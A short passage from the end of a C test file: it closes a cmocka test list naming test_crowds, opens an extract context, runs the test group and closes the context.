                                       cmocka_unit_test(test_crowds)};
    if (extract_open(&ctx, NULL) != 0)
        return 1;
    int r = cmocka_run_group_tests(tests, NULL, NULL);
    extract_close(&ctx);
    return r;
}
